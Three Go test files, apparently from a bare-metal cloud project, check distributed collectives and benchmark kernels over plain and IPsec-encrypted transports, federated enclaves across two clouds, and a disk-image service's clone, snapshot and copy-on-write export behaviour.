		out, err := c.AllReduceSum([]float64{float64(c.Rank()), 1})
		if err != nil {
			return err
		}
		if out[0] != 6 || out[1] != 4 { // 0+1+2+3, 1*4
			t.Errorf("rank %d: allreduce = %v", c.Rank(), out)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestAllGather(t *testing.T) {
	w := world(t, 4, false)
	err := w.Run(func(c *Comm) error {
		mine := []float64{float64(c.Rank() * 10), float64(c.Rank()*10 + 1)}
		all, err := c.AllGatherF64s(mine)
		if err != nil {
			return err
		}
		for r := 0; r < 4; r++ {
			if all[2*r] != float64(r*10) || all[2*r+1] != float64(r*10+1) {
				t.Errorf("rank %d: gathered %v", c.Rank(), all)
				break
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestAllToAll(t *testing.T) {
	w := world(t, 3, false)
	err := w.Run(func(c *Comm) error {
		chunks := make([][]byte, 3)
		for j := range chunks {
			chunks[j] = []byte{byte(c.Rank()), byte(j)}
		}
		got, err := c.AllToAll(chunks)
		if err != nil {
			return err
		}
		for j := range got {
			// From rank j we receive {j, myRank}.
			if got[j][0] != byte(j) || got[j][1] != byte(c.Rank()) {
				t.Errorf("rank %d: from %d got %v", c.Rank(), j, got[j])
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestSecureWorldEncryptsTraffic(t *testing.T) {
	// The same collective works over the IPsec-sealed world, and the
	// counters count plaintext payload bytes.
	w := world(t, 4, true)
	err := w.Run(func(c *Comm) error {
		out, err := c.AllReduceSum([]float64{1})
		if err != nil {
			return err
		}
		if out[0] != 4 {
			t.Errorf("secure allreduce = %v", out)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if w.Stats().Msgs == 0 {
		t.Fatal("no messages counted")
	}
}

// --- the kernels ---

func TestEPVerifies(t *testing.T) {
	w := world(t, 4, false)
	res, err := RunEP(w, 20000)
	if err != nil {
		t.Fatal(err)
	}
	if err := VerifyEP(res); err != nil {
		t.Fatal(err)
	}
}

func TestCGVerifies(t *testing.T) {
	w := world(t, 4, false)
	cfg := DefaultCGConfig()
	res, err := RunCG(w, cfg)
	if err != nil {
		t.Fatal(err)
	}
	if err := VerifyCG(cfg, res); err != nil {
		t.Fatal(err)
	}
}

func TestCGMatchesSingleRank(t *testing.T) {
	// Distribution must not change the numerics: 1 rank and 4 ranks
	// produce the same eigenvalue.
	cfg := DefaultCGConfig()
	r1, err := RunCG(world(t, 1, false), cfg)
	if err != nil {
		t.Fatal(err)
	}
	r4, err := RunCG(world(t, 4, false), cfg)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(r1.Eigen-r4.Eigen) > 1e-8 {
		t.Fatalf("eigen mismatch: 1 rank %.12f, 4 ranks %.12f", r1.Eigen, r4.Eigen)
	}
}

func TestMGVerifies(t *testing.T) {
	w := world(t, 4, false)
	res, err := RunMG(w, DefaultMGConfig())
	if err != nil {
		t.Fatal(err)
	}
	if err := VerifyMG(res); err != nil {
		t.Fatal(err)
	}
}

func TestFTVerifies(t *testing.T) {
	w := world(t, 4, false)
	res, err := RunFT(w, DefaultFTConfig())
	if err != nil {
		t.Fatal(err)
	}
	if err := VerifyFT(res); err != nil {
		t.Fatal(err)
	}
}

func TestKernelsOverIPsec(t *testing.T) {
	// All four kernels run unchanged over the encrypted world.
	cfg := DefaultCGConfig()
	if res, err := RunEP(world(t, 2, true), 5000); err != nil {
		t.Fatal(err)
	} else if err := VerifyEP(res); err != nil {
		t.Fatal(err)
	}
	if res, err := RunCG(world(t, 2, true), cfg); err != nil {
		t.Fatal(err)
	} else if err := VerifyCG(cfg, res); err != nil {
		t.Fatal(err)
	}
	if res, err := RunMG(world(t, 2, true), DefaultMGConfig()); err != nil {
		t.Fatal(err)
	} else if err := VerifyMG(res); err != nil {
		t.Fatal(err)
	}
	if res, err := RunFT(world(t, 2, true), DefaultFTConfig()); err != nil {
		t.Fatal(err)
	} else if err := VerifyFT(res); err != nil {
		t.Fatal(err)
	}
}

// TestCommunicationProfiles validates the Figure-7 premise with real
// kernels: per unit of "work", CG exchanges far more messages than EP,
// and FT moves bulk data in few messages.
func TestCommunicationProfiles(t *testing.T) {
	wEP := world(t, 4, false)
	if _, err := RunEP(wEP, 20000); err != nil {
		t.Fatal(err)
	}
	ep := wEP.Stats()

	wCG := world(t, 4, false)
	if _, err := RunCG(wCG, DefaultCGConfig()); err != nil {
		t.Fatal(err)
	}
	cg := wCG.Stats()

	wFT := world(t, 4, false)
	if _, err := RunFT(wFT, DefaultFTConfig()); err != nil {
		t.Fatal(err)
	}
	ft := wFT.Stats()

	if cg.Msgs < 50*ep.Msgs {
		t.Errorf("CG messages (%d) not >> EP messages (%d)", cg.Msgs, ep.Msgs)
	}
	avg := func(s Stats) float64 { return float64(s.CommBytes) / float64(s.Msgs) }
	if avg(ft) < 4*avg(cg) {
		t.Errorf("FT average message (%.0f B) not bulk vs CG (%.0f B)", avg(ft), avg(cg))
	}
}

func TestTeraSortVerifies(t *testing.T) {
	cfg := DefaultTeraSortConfig()
	w := world(t, 4, false)
	res, err := RunTeraSort(w, cfg)
	if err != nil {
		t.Fatal(err)
	}
	if err := VerifyTeraSort(cfg, 4, res); err != nil {
		t.Fatal(err)
	}
	// The shuffle must have moved most records (random keys spread
	// roughly uniformly over ranks).
	stats := w.Stats()
	shuffled := int64(4*cfg.RecordsPerRank) * TeraRecordSize
	if stats.CommBytes < shuffled/2 {
		t.Errorf("shuffle moved %d bytes, expected ~%d", stats.CommBytes, shuffled)
	}
}

func TestTeraSortOverIPsec(t *testing.T) {
	cfg := TeraSortConfig{RecordsPerRank: 1500, SamplesPerRank: 32, Seed: 9}
	w := world(t, 4, true)
	res, err := RunTeraSort(w, cfg)
	if err != nil {
		t.Fatal(err)
	}
	if err := VerifyTeraSort(cfg, 4, res); err != nil {
		t.Fatal(err)
	}
}

func TestTeraSortSingleRank(t *testing.T) {
	cfg := TeraSortConfig{RecordsPerRank: 2000, SamplesPerRank: 16, Seed: 1}
	res, err := RunTeraSort(world(t, 1, false), cfg)
	if err != nil {
		t.Fatal(err)
	}
	if err := VerifyTeraSort(cfg, 1, res); err != nil {
		t.Fatal(err)
	}
}

func TestTeraSortValidation(t *testing.T) {
	w := world(t, 2, false)
	if _, err := RunTeraSort(w, TeraSortConfig{}); err == nil {
		t.Fatal("empty config accepted")
	}
}

// --- FFT unit tests ---

func TestFFTKnownTransform(t *testing.T) {
	// FFT of a pure tone concentrates all energy in one bin.
	n := 32
	a := make([]complex128, n)
	for i := range a {
		a[i] = cmplx.Exp(complex(0, 2*math.Pi*3*float64(i)/float64(n)))
	}
	fft(a, false)
	for i := range a {
		mag := cmplx.Abs(a[i])
		if i == 3 && math.Abs(mag-float64(n)) > 1e-9 {
			t.Fatalf("bin 3 magnitude %g, want %d", mag, n)
		}
		if i != 3 && mag > 1e-9 {
			t.Fatalf("leakage into bin %d: %g", i, mag)
		}
	}
}

func TestQuickFFTRoundTrip(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		n := 1 << (3 + rng.Intn(5))
		a := make([]complex128, n)
		orig := make([]complex128, n)
		for i := range a {
			a[i] = complex(rng.Float64()-0.5, rng.Float64()-0.5)
			orig[i] = a[i]
		}
		fft(a, false)
		fft(a, true)
		for i := range a {
			if cmplx.Abs(a[i]/complex(float64(n), 0)-orig[i]) > 1e-9 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 40}); err != nil {
		t.Error(err)
	}
}

func TestWorldValidation(t *testing.T) {
	if _, err := NewWorld(0, false); err == nil {
		t.Fatal("zero-size world accepted")
	}
	w := world(t, 2, false)
	if _, err := RunCG(w, CGConfig{N: 3, NonZeros: 2, CGIters: 1, Outer: 1}); err == nil {
		t.Fatal("indivisible CG size accepted")
	}
	if _, err := RunFT(w, FTConfig{N: 48}); err == nil {
		t.Fatal("non-power-of-two FT size accepted")
	}
	if _, err := RunEP(w, 0); err == nil {
		t.Fatal("zero-pair EP accepted")
	}
	if _, err := RunMG(w, MGConfig{PointsPerRank: 2, Levels: 5, Cycles: 1, Smooth: 1}); err == nil {
		t.Fatal("too-shallow MG grid accepted")
	}
}
