package core

import (
	"context"
	"testing"
)

func TestFederatedEnclaveAcrossClouds(t *testing.T) {
	// Two independent clouds (separate fabrics, separate HILs) — e.g.
	// the tenant's own datacenter and a partner's co-location facility.
	cloudA := testCloud(t, 2, FirmwareLinuxBoot)
	cloudB := testCloud(t, 2, FirmwareUEFI)

	fed, err := NewFederatedEnclave(ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := fed.Join("home", cloudA, "tenant-home"); err != nil {
		t.Fatal(err)
	}
	if _, err := fed.Join("partner", cloudB, "tenant-loan"); err != nil {
		t.Fatal(err)
	}
	if _, err := fed.Join("home", cloudA, "dup"); err == nil {
		t.Fatal("duplicate label accepted")
	}

	a1, n1, err := fed.AcquireNode(context.Background(), "home", "fedora28")
	if err != nil {
		t.Fatal(err)
	}
	a2, _, err := fed.AcquireNode(context.Background(), "home", "fedora28")
	if err != nil {
		t.Fatal(err)
	}
	a3, n3, err := fed.AcquireNode(context.Background(), "partner", "fedora28")
	if err != nil {
		t.Fatal(err)
	}
	if len(fed.Nodes()) != 3 {
		t.Fatalf("members = %v", fed.Nodes())
	}

	// Same-cloud traffic uses the member enclave's path.
	if _, err := fed.Send(a1, a2, []byte("local")); err != nil {
		t.Fatal(err)
	}
	// Cross-cloud traffic flows over the federation's IPsec mesh even
	// though the profile (Bob) does not encrypt same-cloud traffic.
	out, err := fed.Send(a1, a3, []byte("cross-cloud"))
	if err != nil || string(out) != "cross-cloud" {
		t.Fatalf("cross-cloud send: %v", err)
	}
	out, err = fed.Send(a3, a2, []byte("reverse"))
	if err != nil || string(out) != "reverse" {
		t.Fatalf("reverse cross-cloud send: %v", err)
	}

	// Both clouds attested independently: each cloud's whitelist
	// reflects its own firmware chain (LinuxBoot flash vs UEFI+Heads).
	for _, n := range []*Node{n1, n3} {
		if n.Machine.Layer() != "tenant-kernel" {
			t.Fatalf("%s not booted", n.Name)
		}
	}

	// Releasing a node severs its cross-cloud tunnels.
	if err := fed.ReleaseNode(a3, ""); err != nil {
		t.Fatal(err)
	}
	if _, err := fed.Send(a1, a3, []byte("x")); err == nil {
		t.Fatal("released node still reachable")
	}
	if err := fed.ReleaseNode(a3, ""); err == nil {
		t.Fatal("double release accepted")
	}
	if free, _ := cloudB.HIL.FreeNodes(); len(free) != 2 {
		t.Fatal("partner node not freed")
	}
}

func TestFederatedValidation(t *testing.T) {
	if _, err := NewFederatedEnclave(Profile{ContinuousAttest: true}); err == nil {
		t.Fatal("invalid profile accepted")
	}
	fed, _ := NewFederatedEnclave(ProfileAlice)
	if _, _, err := fed.AcquireNode(context.Background(), "ghost", "img"); err == nil {
		t.Fatal("acquire from unknown cloud accepted")
	}
	if _, err := fed.Member("ghost"); err == nil {
		t.Fatal("unknown member lookup succeeded")
	}
	if _, err := fed.Send("a", "b", nil); err == nil {
		t.Fatal("send between non-members accepted")
	}
}
