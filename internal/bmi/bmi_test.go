package bmi

import (
	"bytes"
	"context"
	"errors"
	"testing"

	"bolted/internal/blockdev"
	"bolted/internal/ceph"
)

func newBMI(t testing.TB) *Service {
	t.Helper()
	cluster, err := ceph.NewCluster(3, 2)
	if err != nil {
		t.Fatal(err)
	}
	return New(cluster)
}

func testSpec() OSImageSpec {
	return OSImageSpec{
		KernelID: "fedora28-4.17.9",
		Kernel:   bytes.Repeat([]byte("K"), 10_000),
		Initrd:   bytes.Repeat([]byte("I"), 5_000),
		Cmdline:  "root=/dev/sda ima_policy=tcb",
		RootFS:   bytes.Repeat([]byte("R"), 50_000),
	}
}

func TestImageLifecycle(t *testing.T) {
	s := newBMI(t)
	if _, err := s.CreateImage(context.Background(), "a", 1<<20); err != nil {
		t.Fatal(err)
	}
	if _, err := s.CreateImage(context.Background(), "a", 1<<20); !errors.Is(err, ErrExists) {
		t.Fatalf("duplicate create: %v", err)
	}
	if _, err := s.CreateImage(context.Background(), "bad", 100); err == nil {
		t.Fatal("unaligned size accepted")
	}
	imgs, _ := s.ListImages()
	if len(imgs) != 1 || imgs[0] != "a" {
		t.Fatalf("ListImages = %v", imgs)
	}
	if err := s.DeleteImage(context.Background(), "a"); err != nil {
		t.Fatal(err)
	}
	if err := s.DeleteImage(context.Background(), "a"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("double delete: %v", err)
	}
}

func TestOSImageBootInfo(t *testing.T) {
	s := newBMI(t)
	spec := testSpec()
	if _, err := s.CreateOSImage("fedora", spec); err != nil {
		t.Fatal(err)
	}
	bi, err := s.ExtractBootInfo(context.Background(), "fedora")
	if err != nil {
		t.Fatal(err)
	}
	if bi.KernelID != spec.KernelID || bi.Cmdline != spec.Cmdline {
		t.Fatalf("boot info = %+v", bi)
	}
	if !bytes.Equal(bi.Kernel, spec.Kernel) || !bytes.Equal(bi.Initrd, spec.Initrd) {
		t.Fatal("kernel/initrd bytes corrupted")
	}
	root, err := s.ReadRootFS("fedora")
	if err != nil || !bytes.Equal(root, spec.RootFS) {
		t.Fatalf("rootfs corrupted: %v", err)
	}
}

func TestOSImageValidation(t *testing.T) {
	s := newBMI(t)
	if _, err := s.CreateOSImage("x", OSImageSpec{KernelID: "k"}); err == nil {
		t.Fatal("kernel-less image accepted")
	}
	s.CreateImage(context.Background(), "raw", 1<<20)
	if _, err := s.ExtractBootInfo(context.Background(), "raw"); err == nil {
		t.Fatal("boot info from raw image accepted")
	}
	if _, err := s.ExtractBootInfo(context.Background(), "ghost"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("boot info from missing image: %v", err)
	}
}

func TestCloneIndependence(t *testing.T) {
	s := newBMI(t)
	s.CreateOSImage("golden", testSpec())
	if _, err := s.CloneImage(context.Background(), "golden", "copy"); err != nil {
		t.Fatal(err)
	}
	// Mutate the clone; golden must be unaffected.
	dev, _ := s.Device("copy")
	junk := make([]byte, blockdev.SectorSize)
	for i := range junk {
		junk[i] = 0xFF
	}
	dev.WriteSectors(junk, 0)
	if _, err := s.ExtractBootInfo(context.Background(), "copy"); err == nil {
		t.Fatal("clobbered clone still parses")
	}
	if _, err := s.ExtractBootInfo(context.Background(), "golden"); err != nil {
		t.Fatalf("golden damaged by clone mutation: %v", err)
	}
	if _, err := s.CloneImage(context.Background(), "ghost", "x"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("clone of missing: %v", err)
	}
	if _, err := s.CloneImage(context.Background(), "golden", "copy"); !errors.Is(err, ErrExists) {
		t.Fatalf("clone onto existing: %v", err)
	}
}

func TestSnapshotImmutable(t *testing.T) {
	s := newBMI(t)
	s.CreateOSImage("golden", testSpec())
	snap, err := s.SnapshotImage(context.Background(), "golden", "golden@v1")
	if err != nil {
		t.Fatal(err)
	}
	if !snap.Snapshot {
		t.Fatal("snapshot not marked")
	}
	if _, err := s.ExportForBoot(context.Background(), "node1", "golden@v1", false); err == nil {
		t.Fatal("read-write export of snapshot accepted")
	}
	if _, err := s.ExportForBoot(context.Background(), "node1", "golden@v1", true); err != nil {
		t.Fatalf("CoW export of snapshot rejected: %v", err)
	}
}

func TestExportCoWKeepsGoldenPristine(t *testing.T) {
	s := newBMI(t)
	s.CreateOSImage("golden", testSpec())
	e, err := s.ExportForBoot(context.Background(), "node1", "golden", true)
	if err != nil {
		t.Fatal(err)
	}
	// The node boots and writes through its NBD client.
	client, err := blockdev.NewClient(blockdev.Loopback{Target: e.Target}, blockdev.TunedReadAhead)
	if err != nil {
		t.Fatal(err)
	}
	junk := bytes.Repeat([]byte{0xEE}, 4*blockdev.SectorSize)
	if err := client.WriteSectors(junk, 0); err != nil {
		t.Fatal(err)
	}
	if e.DirtySectors() != 4 {
		t.Fatalf("dirty = %d, want 4", e.DirtySectors())
	}
	// Golden image unaffected.
	if _, err := s.ExtractBootInfo(context.Background(), "golden"); err != nil {
		t.Fatalf("golden image damaged by node writes: %v", err)
	}
	// Release without saving: nothing persists anywhere.
	if err := s.Unexport(context.Background(), "node1", ""); err != nil {
		t.Fatal(err)
	}
	if _, err := s.GetExport("node1"); !errors.Is(err, ErrNotFound) {
		t.Fatal("export still present after unexport")
	}
}

func TestExportSaveState(t *testing.T) {
	s := newBMI(t)
	s.CreateOSImage("golden", testSpec())
	e, _ := s.ExportForBoot(context.Background(), "node1", "golden", true)
	client, _ := blockdev.NewClient(blockdev.Loopback{Target: e.Target}, 0)
	marker := bytes.Repeat([]byte{0xAB}, blockdev.SectorSize)
	stateSector := client.NumSectors() - 1
	if err := client.WriteSectors(marker, stateSector); err != nil {
		t.Fatal(err)
	}
	if err := s.Unexport(context.Background(), "node1", "node1-state"); err != nil {
		t.Fatal(err)
	}
	// The saved image contains golden + the node's write, and can boot
	// on any other node (elasticity: restart image on a compatible node).
	bi, err := s.ExtractBootInfo(context.Background(), "node1-state")
	if err != nil || bi.KernelID != "fedora28-4.17.9" {
		t.Fatalf("saved image boot info: %v", err)
	}
	e2, err := s.ExportForBoot(context.Background(), "node2", "node1-state", true)
	if err != nil {
		t.Fatal(err)
	}
	c2, _ := blockdev.NewClient(blockdev.Loopback{Target: e2.Target}, 0)
	got := make([]byte, blockdev.SectorSize)
	c2.ReadSectors(got, stateSector)
	if !bytes.Equal(got, marker) {
		t.Fatal("saved state not visible on restart")
	}
}

func TestExportExclusivity(t *testing.T) {
	s := newBMI(t)
	s.CreateOSImage("golden", testSpec())
	if _, err := s.ExportForBoot(context.Background(), "node1", "golden", true); err != nil {
		t.Fatal(err)
	}
	if _, err := s.ExportForBoot(context.Background(), "node1", "golden", true); !errors.Is(err, ErrInUse) {
		t.Fatalf("double export: %v", err)
	}
	if err := s.DeleteImage(context.Background(), "golden"); !errors.Is(err, ErrInUse) {
		t.Fatalf("delete of exported image: %v", err)
	}
	if _, err := s.ExportForBoot(context.Background(), "node2", "ghost", true); !errors.Is(err, ErrNotFound) {
		t.Fatalf("export of missing image: %v", err)
	}
	if err := s.Unexport(context.Background(), "ghost", ""); !errors.Is(err, ErrNotFound) {
		t.Fatalf("unexport of missing: %v", err)
	}
	s.Unexport(context.Background(), "node1", "")
	if err := s.DeleteImage(context.Background(), "golden"); err != nil {
		t.Fatal(err)
	}
}

// The diskless-boot observation: a booting node touches a tiny fraction
// of the image.
func TestBootTouchesFractionOfImage(t *testing.T) {
	s := newBMI(t)
	spec := testSpec()
	spec.RootFS = bytes.Repeat([]byte("R"), 4<<20) // 4 MiB of rootfs
	s.CreateOSImage("golden", spec)
	e, _ := s.ExportForBoot(context.Background(), "node1", "golden", true)
	client, _ := blockdev.NewClient(blockdev.Loopback{Target: e.Target}, blockdev.DefaultReadAhead)

	// A boot reads the manifest area and the kernel+initrd, not the
	// whole rootfs.
	buf := make([]byte, 64<<10)
	client.ReadSectors(buf, 0)
	kb := make([]byte, 16<<10)
	client.ReadSectors(kb, (64<<10)/blockdev.SectorSize)

	img, _ := s.GetImage("golden")
	frac := float64(80<<10) / float64(img.Size)
	if frac > 0.05 {
		t.Fatalf("boot touched %.1f%% of image; diskless premise broken", frac*100)
	}
}
